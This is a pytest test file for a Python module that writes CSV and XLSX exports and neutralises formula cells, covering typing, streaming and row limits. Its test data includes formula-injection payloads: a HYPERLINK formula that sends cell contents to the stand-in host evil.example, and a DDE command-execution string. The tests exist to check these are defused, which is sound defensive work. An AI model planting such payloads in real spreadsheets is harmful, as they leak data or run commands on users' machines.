"""The one CSV and XLSX writer (`mediane/spreadsheets.py`): formula cells neutralised, values typed, rows streamed."""

import csv
import io
import itertools
import re
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from mediane import spreadsheets
from mediane.spreadsheets import (
    Sheet,
    SpreadsheetTooLarge,
    csv_text,
    iter_csv,
    neutralise,
    restore,
    write_csv,
    write_workbook,
    write_xlsx,
)

ROOT = Path(__file__).resolve().parents[2]

# Each starts a cell that a spreadsheet program would read as a formula.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+A1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0-A1",
    "＝1+1",  # full-width equals sign
    "＋A1",
    "﹦1+1",  # small equals sign
    "-",
    "+",
    "\tTexte après une tabulation",
]
PLAIN_NUMBERS = ["+33326000000", "-21.3475", "+33 1 23 45 67 89", "-5.68E-4", "-0,5", "+1 234,56", "-12"]
ORDINARY = ["Bibliothèque", "", "a = b", "1+1", "'déjà entre apostrophes", "Deux lignes\n=la seconde", "Tél. +33"]


def _xlsx(rows, **options) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    write_xlsx(buffer, rows, **options)
    return openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))


# --- Neutralising ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_a_spreadsheet_would_run_gets_a_single_quote_in_front(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN_NUMBERS)
def test_a_plain_number_with_a_sign_stays_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_stays_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", DANGEROUS + PLAIN_NUMBERS + ORDINARY)
def test_restore_gives_back_the_text_before_neutralising(text):
    assert restore(neutralise(text)) == text


def test_restore_leaves_a_quote_that_neutralise_would_not_have_put():
    assert restore("'déjà entre apostrophes") == "'déjà entre apostrophes"
    assert restore("'+33326000000") == "'+33326000000"


# --- CSV -------------------------------------------------------------------------------------------------------------


def test_a_csv_row_keeps_numbers_dates_and_booleans_and_neutralises_text():
    row = [None, 3, -4, 2.5, Decimal("1.20"), True, False, date(2024, 5, 1)]
    row += [datetime(2024, 5, 1, 9, 30, tzinfo=UTC), "=1+1", "+33326000000", "Deux lignes,\nune virgule"]

    text = csv_text([row])

    assert text == (
        ",3,-4,2.5,1.20,true,false,2024-05-01,2024-05-01T09:30:00+00:00,'=1+1,+33326000000,\"Deux lignes,\nune "
        'virgule"\r\n'
    )


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_dangerous_cell_reads_back_from_the_csv_with_its_quote(text):
    written = csv_text([["x", text]], header=["a", "b"])

    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a", "b"], ["x", "'" + text]]


def test_a_value_of_another_type_is_written_as_its_text_and_neutralised_too():
    class Label:
        def __str__(self):
            return "@rappel"

    assert csv_text([[Label()]]) == "'@rappel\r\n"


def test_the_csv_takes_a_delimiter_a_line_end_and_a_byte_order_mark():
    text = csv_text([["Proposition", "a;b"]], header=["type", "titre"], delimiter=";", lineterminator="\n", bom=True)

    assert text == '\ufefftype;titre\nProposition;"a;b"\n'


def test_the_csv_comes_line_by_line_and_reads_rows_only_as_it_goes():
    endless = ([n, f"=A{n}"] for n in itertools.count())

    lines = list(itertools.islice(iter_csv(endless, header=["n", "formule"]), 3))

    assert lines == ["n,formule\r\n", "0,'=A0\r\n", "1,'=A1\r\n"]


def test_write_csv_writes_to_a_file_and_counts_the_rows(tmp_path):
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        count = write_csv(file, [[1, "@a"], [2, "b"]], header=["n", "v"])

    assert count == 2
    assert path.read_bytes() == b"n,v\r\n1,'@a\r\n2,b\r\n"


# --- XLSX ------------------------------------------------------------------------------------------------------------


def test_the_xlsx_cells_are_typed_and_a_formula_text_is_a_neutralised_string():
    when = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)
    row = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "Deux lignes\nde texte", 42, -1.5, Decimal("3.10")]
    row += [True, date(2024, 5, 1), when, None, "+33326000000", 12345678901234567]

    sheet = _xlsx([row], header=["titre", "texte", "n", "x", "d", "b", "jour", "quand", "vide", "tel", "siret"]).active
    cells = list(sheet.iter_rows(min_row=2))[0]

    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "n", "b", "d", "d", "n", "s", "s"]
    assert [c.value for c in cells] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
        "Deux lignes\nde texte",
        42,
        -1.5,
        3.1,
        True,
        cells[6].value,
        cells[7].value,
        None,
        "+33326000000",
        "12345678901234567",
    ]
    assert cells[6].value.date() == date(2024, 5, 1) and cells[7].value.replace(tzinfo=UTC) == when
    assert cells[6].number_format == "dd/mm/yyyy" and cells[7].number_format == "dd/mm/yyyy hh:mm"
    assert sheet["A1"].value == "titre" and sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_no_xlsx_cell_is_ever_a_formula():
    buffer = io.BytesIO()
    write_xlsx(buffer, [[text] for text in DANGEROUS], header=["=entête"])

    with zipfile.ZipFile(buffer) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    # <f> holds a formula in SpreadsheetML; every cell here is an inline string.
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') == len(DANGEROUS) + 1


@pytest.mark.parametrize("text", DANGEROUS + PLAIN_NUMBERS + [t for t in ORDINARY if t])
def test_a_text_is_neutralised_the_same_way_in_csv_and_xlsx(text):
    from_csv = next(csv.reader(io.StringIO(csv_text([[text, "fin"]]), newline="")))[0]

    from_xlsx = _xlsx([[text, "fin"]]).active["A1"].value

    # XML cannot hold a bare CR: SpreadsheetML writes it « _x000D_ », which Excel reads back as CR and openpyxl
    # leaves as it is in inline strings.
    assert from_xlsx.replace("_x000D_", "\r") == from_csv


def test_an_aware_datetime_is_written_at_its_own_wall_clock_time():
    when = datetime(2024, 5, 1, 9, 30, tzinfo=ZoneInfo("Europe/Paris"))

    written = _xlsx([[when]]).active["A1"].value

    assert (written.date(), written.hour, written.minute, written.tzinfo) == (date(2024, 5, 1), 9, 30, None)


def test_a_workbook_holds_several_sheets_each_with_its_widths():
    buffer = io.BytesIO()
    counts = write_workbook(
        buffer,
        [Sheet("Lieux", [["a"], ["b"]], header=["nom"], widths=[40]), Sheet("Résumé", [[2]])],
    )

    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert counts == [2, 1]
    assert book.sheetnames == ["Lieux", "Résumé"]
    assert book["Lieux"].column_dimensions["A"].width == pytest.approx(40, abs=1)
    assert book["Résumé"]["A1"].value == 2


def test_a_sheet_beyond_the_row_limit_of_spreadsheets_is_refused(monkeypatch, tmp_path):
    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 3)

    with pytest.raises(SpreadsheetTooLarge, match="plus de 3 lignes"):
        write_xlsx(tmp_path / "trop.xlsx", [[n] for n in range(3)], header=["n"])


def test_five_thousand_rows_of_twenty_columns_come_back_whole_and_neutralised_each_way():
    # How fast is the benchmarks' business; here, that a large sheet is written whole, row for row.
    row = [7, "=A1", "Un texte de quelques mots", 3.5, date(2024, 5, 1), None, True, "+33326000000"] + ["abc"] * 12
    rows = [row] * 5000
    header = [f"c{n}" for n in range(20)]

    text = csv_text(rows, header=header)
    stream = io.BytesIO()
    written = write_xlsx(stream, rows, header=header)

    read = list(csv.reader(io.StringIO(text)))
    assert len(read) == 5001 and {len(line) for line in read} == {20}
    assert (
        read[1][:3] == ["7", "'=A1", "Un texte de quelques mots"] and read[-1][7] == "+33326000000"
    )  # a plain number stays
    sheet = openpyxl.load_workbook(io.BytesIO(stream.getvalue()), read_only=True).active
    cells = list(sheet.iter_rows(values_only=True))
    assert written == 5000 and len(cells) == 5001
    assert cells[-1][1] == "'=A1" and cells[-1][0] == 7 and cells[-1][19] == "abc"


# --- One writer for the whole platform -------------------------------------------------------------------------------


def test_the_writing_core_imports_nothing_of_django():
    # A pure core (the national standard's codec) writes through it, so it must load without Django.
    code = "import sys, mediane.spreadsheets; print(sorted(m for m in sys.modules if m.split('.')[0] == 'django'))"

    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)  # noqa: S603

    assert result.stdout.strip() == "[]"


HAND_WRITTEN = re.compile(
    r"\bcsv\.(?:writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(?:writer|DictWriter)\b|\bxlsxwriter\b"
)
OWN_HOME = ROOT / "mediane" / "spreadsheets.py"


def hand_written_spreadsheets(*folders: Path) -> list[str]:
    """Python files, outside the one writer, that write CSV or XLSX themselves, as `path:line`."""
    found = []
    for folder in folders:
        for path in sorted(folder.rglob("*.py")):
            if path == OWN_HOME:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if HAND_WRITTEN.search(line):
                    found.append(f"{path.relative_to(folder.parent)}:{number}")
    return found


def test_no_module_writes_csv_or_xlsx_by_hand():
    # Tests are left out on purpose: they write raw, hostile input files for the readers.
    found = hand_written_spreadsheets(ROOT / "mediane", ROOT / "config", ROOT / "bench")

    assert found == [], f"Écrivez les CSV et XLSX avec mediane.spreadsheets : {found}"


def test_the_search_for_hand_written_files_finds_each_way_of_writing_them(tmp_path):
    app = tmp_path / "app"
    app.mkdir()
    (app / "export.py").write_text(
        "import csv\nw = csv.writer(f)\nd = csv.DictWriter(f, [])\nfrom csv import DictWriter\nimport xlsxwriter\n"
        "rows = csv.reader(f)\n",
        encoding="utf-8",
    )

    assert hand_written_spreadsheets(app) == [
        "app/export.py:2",
        "app/export.py:3",
        "app/export.py:4",
        "app/export.py:5",
    ]
